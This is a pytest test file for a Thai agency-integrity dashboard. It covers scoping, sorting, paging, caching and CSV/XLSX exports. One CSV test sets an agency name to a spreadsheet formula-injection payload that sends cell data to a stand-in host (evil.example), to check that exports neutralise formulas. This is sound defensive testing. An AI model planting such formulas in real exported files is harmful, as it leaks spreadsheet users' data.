"""The overseer dashboard and its exports: the rows of the caller's scope with the figures the core
computes, charts, sort, filter and search, XLSX and CSV of the same rows, and queries per page that
do not grow with the number of agencies."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

import pytest
import yaml
from django.core.cache import cache as django_cache
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.utils.html import escape
from openpyxl import load_workbook

from prongsai.app.results import canonical_data, read_canonical
from prongsai_web.directory.models import Agency
from prongsai_web.plans.models import Plan
from prongsai_web.plans.services import approve_plan, current_plan, save_plan
from prongsai_web.results.models import ResultSet
from prongsai_web.tracking.services import add_update
from prongsai_web.ui.dashboard_views import Dashboard, dashboard_data, thai_sort_key
from prongsai_web.ui.paging import PAGE_SIZE
from tests.web.conftest import KHOK_MUANG, World, records

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _shifted(offset: float, name: str) -> tuple[str, float | None, str]:
    """โคกม่วง's 2567 results as another agency's, every indicator and the overall moved by
    ``offset`` (within 0-100): canonical text, overall and level as the core resolves them."""
    data: dict[str, Any] = canonical_data(records(KHOK_MUANG)[0])
    data["agency"] = {**data["agency"], "name": name}
    scores = data["scores"]
    scores.pop("items", None)  # indicators given: the tools and overall follow from them
    scores["indicators"] = {n: max(0.0, min(100.0, v + offset)) for n, v in scores["indicators"].items()}
    scores.pop("overall", None)
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    results = read_canonical(text)
    return text, results.overall.value, results.level.value or ""


def _many(count: int, province: str = "สงขลา") -> list[Agency]:
    """``count`` more agencies of ``province`` with results for 2567, bulk-created."""
    start = Agency.objects.count()
    made = Agency.objects.bulk_create(
        [
            Agency(
                name=f"องค์การบริหารส่วนตำบลทดลอง{i:03d}",
                type="องค์การบริหารส่วนตำบล",
                district=("หาดใหญ่", "สะเดา", "จะนะ")[i % 3],
                province=province,
            )
            for i in range(start, start + count)
        ]
    )
    rows = []
    for i, agency in enumerate(made):
        text, overall, level = _shifted(-30 + (i * 37) % 40, agency.name)
        rows.append(ResultSet(agency=agency, ita_year=2567, canonical=text, overall=overall, level=level))
    ResultSet.objects.bulk_create(rows)
    # bulk-created rows bypass the services, so no audit event marks the change as every real write
    # does (the dashboard's cached pages are keyed by the latest one): drop the cached pages instead
    django_cache.clear()
    return made


@dataclass
class Page:
    context: dict[str, Dashboard]
    html: str


def _page(world: World, persona: str, **params: str) -> Page:
    """The dashboard page as ``persona`` asks for it, with the board it shows (read again: the page
    body may come from the cache); every agency of the board's first page is on the page."""
    response = world.client(persona).get("/dashboard/", params)
    assert response.status_code == 200
    board = dashboard_data(world.users[persona], QueryDict(urlencode(params)))
    html = response.content.decode()
    assert all(escape(r.agency.name) in html for r in board.rows[:PAGE_SIZE])
    return Page({"board": board}, html)


def test_the_overseer_sees_every_agency_of_the_province_with_its_figures(world: World) -> None:
    response = _page(world, "overseer")
    board = response.context["board"]
    assert board.year == 2567  # the latest year held in the overseer's scope
    assert [r.agency.pk for r in board.rows] == [world.a1.pk, world.a2.pk]  # โคกม่วง before ทดสอบ
    row = next(r for r in board.rows if r.agency == world.a1)
    assert row.overall == pytest.approx(92.13) and row.level == "ผ่าน"
    assert row.iit == pytest.approx(91.644) and row.eit == pytest.approx(82.14) and row.oit == 100.0
    assert row.weakest == 8 and row.weakest_score == pytest.approx(72.94)
    assert row.plan == "none"
    page = response.html
    assert "เทศบาลตำบลโคกม่วง" in page and "เทศบาลตำบลทดสอบ" in page and "บึงกาฬ" not in page
    assert "92.13" in page and "91.64" in page and "82.14" in page
    assert "ยังไม่มีแผน" in page and "คะแนนเฉลี่ยรายตัวชี้วัด" in page
    charts = board.charts
    assert (charts["scored"], charts["passed"], charts["pass_rate"]) == (1, 1, 100.0)
    assert [b["count"] for b in charts["bands"]] == [0, 0, 0, 0, 0, 0, 1, 0]  # 92.13: 90-94.99
    assert len(charts["averages"]) == 10 and charts["averages"][7]["below"]  # indicator 8 at 72.94


def test_names_sort_in_thai_dictionary_order() -> None:
    names = ["เทศบาลตำบลโคกม่วง", "กรมทดสอบ", "องค์การบริหารส่วนตำบลก", "เทศบาลตำบลทดสอบ"]
    ordered = sorted(names, key=thai_sort_key)
    assert ordered == ["กรมทดสอบ", "เทศบาลตำบลโคกม่วง", "เทศบาลตำบลทดสอบ", "องค์การบริหารส่วนตำบลก"]


def test_the_admin_sees_the_latest_year_and_may_pick_another(world: World) -> None:
    board = _page(world, "admin").context["board"]
    assert board.years == [2568, 2567] and board.year == 2568
    held = {r.agency.pk: r.overall for r in board.rows}
    assert set(held) == {world.a1.pk, world.a2.pk, world.b1.pk}
    assert held[world.b1.pk] is not None and held[world.a1.pk] is None  # โคกม่วง has no 2568
    earlier = _page(world, "admin", year="2567").context["board"]
    assert earlier.year == 2567
    assert {r.agency.pk: r.overall for r in earlier.rows}[world.a1.pk] == pytest.approx(92.13)
    assert _page(world, "admin", year="2999").context["board"].year == 2568  # not held: the latest


@pytest.mark.parametrize(
    ("persona", "expected"), [("clerk", {"a1"}), ("executive", {"a1"}), ("outsider", {"b1"})]
)
def test_a_clerk_or_executive_sees_only_their_own_agency(
    world: World, persona: str, expected: set[str]
) -> None:
    response = _page(world, persona)
    wanted = {getattr(world, name).pk for name in expected}
    assert {r.agency.pk for r in response.context["board"].rows} == wanted
    page = response.html
    for agency in (world.a1, world.a2, world.b1):
        assert (f'href="/a/{agency.pk}/"' in page) == (agency.pk in wanted)


def test_the_plan_state_follows_the_saved_plan(world: World) -> None:
    assert world.api("clerk").get(f"/api/agencies/{world.a1.pk}/years/2567/plan").status_code == 200
    row = next(r for r in _page(world, "overseer").context["board"].rows if r.agency == world.a1)
    assert row.plan == "draft" and row.plan_word == "ร่าง"
    # the executive approves the current version: approved; a later edit makes a new working draft
    executive = world.users["executive"]
    version = Plan.objects.get(agency=world.a1, ita_year=2567).version
    approve_plan(executive, world.a1, 2567, version)
    row = next(r for r in _page(world, "overseer").context["board"].rows if r.agency == world.a1)
    assert row.plan == "approved"
    plan = current_plan(world.users["clerk"], world.a1, 2567)  # the clerk edits the approved plan
    save_plan(world.users["clerk"], world.a1, 2567, plan.plan, plan.version)
    row = next(r for r in _page(world, "overseer").context["board"].rows if r.agency == world.a1)
    assert row.plan == "draft"


def test_filter_search_and_sort(world: World) -> None:
    _many(12)
    everyone = _page(world, "overseer").context["board"]
    assert everyone.in_scope == 14 and len(everyone.rows) == 14
    assert everyone.options["district"] == sorted(
        {"คลองหอยโข่ง", "หาดใหญ่", "สะเดา", "จะนะ"}, key=thai_sort_key
    )
    by_district = _page(world, "overseer", district="สะเดา").context["board"]
    assert by_district.rows and all(r.agency.district == "สะเดา" for r in by_district.rows)
    by_type = _page(world, "overseer", type="เทศบาลตำบล").context["board"]
    assert {r.agency.pk for r in by_type.rows} == {world.a1.pk, world.a2.pk}
    found = _page(world, "overseer", q="โคกม่วง").context["board"]
    assert [r.agency.pk for r in found.rows] == [world.a1.pk]
    levels = everyone.options["level"]
    assert levels, "the levels held are offered"
    by_level = _page(world, "overseer", level=levels[0]).context["board"]
    assert by_level.rows and all(r.level == levels[0] for r in by_level.rows)
    low_first = _page(world, "overseer", sort="overall").context["board"].rows
    scores = [r.overall for r in low_first]
    assert scores[-1] is None  # no results: last whichever way
    held = [s for s in scores if s is not None]
    assert held == sorted(held)
    high_first = [r.overall for r in _page(world, "overseer", sort="-overall").context["board"].rows]
    assert [s for s in high_first if s is not None] == sorted(held, reverse=True) and high_first[-1] is None
    for column in ("name", "province", "district", "type", "level", "iit", "eit", "oit", "weakest", "plan"):
        for sort in (column, f"-{column}"):
            board = _page(world, "overseer", sort=sort).context["board"]
            assert board.sort == sort and len(board.rows) == 14
    eit = [r.eit for r in _page(world, "overseer", sort="-eit").context["board"].rows if r.eit is not None]
    assert eit == sorted(eit, reverse=True)
    assert _page(world, "overseer", sort="nonsense").context["board"].sort == "name"
    charts = everyone.charts
    assert charts["scored"] == 13 and sum(b["count"] for b in charts["bands"]) == 13
    passed = sum(1 for r in everyone.rows if r.overall is not None and r.overall >= 85)
    assert charts["passed"] == passed and 0 < passed < 13


def _csv(world: World, persona: str, **params: str) -> list[list[str]]:
    response = world.client(persona).get("/dashboard/export.csv", params)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Thai as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_export_holds_the_same_rows_and_no_formula(world: World) -> None:
    world.a2.name = '=HYPERLINK("http://evil.example/?"&A1)'
    world.a2.save()
    rows = _csv(world, "overseer", sort="name")
    assert rows[0][:3] == ["ลำดับ", "หน่วยงาน", "ประเภท"]
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + world.a2.name, "เทศบาลตำบลโคกม่วง"]  # the apostrophe: never run as a formula
    khok = next(r for r in rows[1:] if r[1] == "เทศบาลตำบลโคกม่วง")
    assert khok[5:11] == ["2567", "92.13", "ผ่าน", "91.64", "82.14", "100.0"]
    assert khok[11].startswith("8. ") and khok[12] == "72.94" and khok[13] == "ยังไม่มีแผน"
    filtered = _csv(world, "overseer", q="โคกม่วง")
    assert len(filtered) == 2
    assert [r[1] for r in _csv(world, "outsider")[1:]] == ["เทศบาลเมืองบึงกาฬ"]


def test_xlsx_export_is_thai_text_cells_in_th_sarabun_new(world: World) -> None:
    world.a2.name = "=1+1"
    world.a2.save()
    response = world.client("overseer").get("/dashboard/export.xlsx", {"year": "2567"})
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    assert 'filename="prongsai-dashboard-2567.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert "ITA ปี 2567" in str(sheet["A1"].value)
    assert [c.value for c in sheet[2]][:5] == ["ลำดับ", "หน่วยงาน", "ประเภท", "อำเภอ", "จังหวัด"]
    values = {sheet.cell(r, 2).value: [c.value for c in sheet[r]] for r in range(3, sheet.max_row + 1)}
    assert set(values) == {"=1+1", "เทศบาลตำบลโคกม่วง"}
    formula = next(sheet.cell(r, 2) for r in range(3, 5) if sheet.cell(r, 2).value == "=1+1")
    assert formula.data_type == "s" and formula.quotePrefix
    khok = values["เทศบาลตำบลโคกม่วง"]
    assert khok[6] == pytest.approx(92.13) and isinstance(khok[6], float)
    assert khok[8] == pytest.approx(91.64) and khok[13] == "ยังไม่มีแผน"
    assert all(
        c.font.name == "TH Sarabun New" for row in sheet.iter_rows() for c in row if c.value is not None
    )
    assert sheet.freeze_panes == "C3"


def _queries(world: World, path: str) -> int:
    client = world.client("overseer")
    with CaptureQueriesContext(connection) as captured:
        assert client.get(path).status_code == 200
    return len(captured)


# (warm, cold) queries. The exports: session, user, memberships, the scope, the years held, the
# year's results, the year's plans and their approved versions (the plans' progress too, once some
# agency has a plan); and, the first time a result set is shown, its canonical text. The page:
# session, user, memberships (read once per request: access.MembershipsOnce), the latest audit event
# (its body is cached by scope, parameters, that event and the day), and when not cached the exports'
# queries but the session's, the user's and the memberships'.
QUERIES = {"/dashboard/": (4, 10), "/dashboard/export.csv": (8, 9), "/dashboard/export.xlsx": (8, 9)}


@pytest.mark.parametrize("path", list(QUERIES))
def test_queries_do_not_grow_with_the_agencies(world: World, path: str) -> None:
    _many(3)  # 5 agencies in the overseer's scope
    cold_5 = _queries(world, path)
    warm_5 = _queries(world, path)
    _many(45)  # 50
    cold_50 = _queries(world, path)
    warm_50 = _queries(world, path)
    assert _page(world, "overseer").context["board"].in_scope == 50
    assert cold_5 == cold_50 and warm_5 == warm_50
    assert (warm_50, cold_50) == QUERIES[path]


def test_figures_stored_at_upload_need_no_reading_of_the_results_text(world: World) -> None:
    """The world's result sets were saved through the upload service, which stores their figures:
    the exports read no canonical text even with nothing cached."""
    django_cache.clear()
    assert ResultSet.objects.get(agency=world.a1).figures_version
    assert _queries(world, "/dashboard/export.csv") == 8
    row = next(r for r in _page(world, "overseer").context["board"].rows if r.agency == world.a1)
    assert row.weakest == 8 and row.iit == pytest.approx(91.644)


def test_a_national_scope_is_paged_and_any_write_shows_at_once(world: World) -> None:
    _many(PAGE_SIZE + 10)  # 112 agencies in the overseer's province
    first = _page(world, "overseer")
    board = first.context["board"]
    assert len(board.rows) == PAGE_SIZE + 12
    assert "หน้า 1 จาก 2" in first.html and "ถัดไป" in first.html
    assert escape(board.rows[PAGE_SIZE].agency.name) not in first.html  # the 101st is on page 2
    second = world.client("overseer").get("/dashboard/", {"page": "2"}).content.decode()
    assert "หน้า 2 จาก 2" in second and escape(board.rows[PAGE_SIZE].agency.name) in second
    assert escape(board.rows[0].agency.name) not in second
    assert f"จาก {PAGE_SIZE + 12} หน่วยงาน" in second
    too_far = world.client("overseer").get("/dashboard/", {"page": "99"}).content.decode()
    assert "หน้า 2 จาก 2" in too_far  # past the end: the last page
    # the plan of a1 is drafted through the service (audited): the cached page shows it at once
    assert "ร่าง" not in _plan_cell(first.html, world.a1)
    current_plan(world.users["clerk"], world.a1, 2567)
    assert "ร่าง" in _plan_cell(world.client("overseer").get("/dashboard/").content.decode(), world.a1)


def _plan_cell(html: str, agency: Agency) -> str:
    """The plan cell of ``agency``'s row in the dashboard's table."""
    row = html[html.index(f'href="/a/{agency.pk}/"') :]
    return row[row.index('class="plan"') : row.index("</tr>")]


def test_the_share_of_measures_done_on_time_per_agency(world: World) -> None:
    """โคกม่วง's plan for its 2567 results runs through fiscal 2568, long past: every measure is due.
    None done: 0 %; one reported done before its due date: one in the number of measures."""
    clerk = world.users["clerk"]
    plan = current_plan(clerk, world.a1, 2567).plan
    row = next(r for r in _page(world, "overseer").context["board"].rows if r.agency == world.a1)
    assert row.on_time == 0.0
    first = plan.measures[0]
    add_update(clerk, world.a1, 2567, first.id, 0, {"date": "2568-01-15", "status": "done"})  # type: ignore[arg-type]
    page = _page(world, "overseer")
    row = next(r for r in page.context["board"].rows if r.agency == world.a1)
    assert row.on_time == pytest.approx(1 / len(plan.measures))
    assert f"{100 / len(plan.measures):.0f}%" in page.html
    assert next(r for r in page.context["board"].rows if r.agency == world.a2).on_time is None
    csv_text = world.client("overseer").get("/dashboard/export.csv").content.decode("utf-8-sig")
    assert "มาตรการที่ทำทันกำหนด (ร้อยละ)" in csv_text.splitlines()[0]
